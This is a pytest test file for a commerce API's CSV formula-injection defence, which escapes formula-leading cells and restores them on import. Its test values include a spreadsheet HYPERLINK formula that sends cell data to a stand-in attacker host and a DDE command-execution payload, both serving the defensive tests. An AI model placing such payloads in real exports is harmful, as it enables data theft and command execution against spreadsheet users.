"""CSV cells neutralised against spreadsheet formulas (OWASP), and restored on import."""

from __future__ import annotations

import pytest

from commerce_api.core.spreadsheet import FORMULA_STARTS, neutralise_cell, restore_cell

VALUES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTabbed",
    "\rCarriage return",
    "'=already quoted",
    "''+twice quoted",
    "'plain quote",
    "'",
    "",
    "Plain name",
    "a=b",
]


@pytest.mark.parametrize("value", VALUES)
def test_a_neutralised_cell_never_starts_a_formula_and_restores_to_its_value(value: str) -> None:
    cell = neutralise_cell(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert restore_cell(cell) == value


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_gets_one_apostrophe(start: str) -> None:
    assert neutralise_cell(f"{start}1") == f"'{start}1"


def test_cells_that_are_not_formulas_pass_unchanged() -> None:
    assert neutralise_cell("'plain quote") == "'plain quote"
    assert restore_cell("'plain quote") == "'plain quote"
    assert restore_cell("=typed by hand") == "=typed by hand"
    assert neutralise_cell(None) == ""
    assert neutralise_cell(-2) == "'-2"
    assert neutralise_cell(12) == "12"
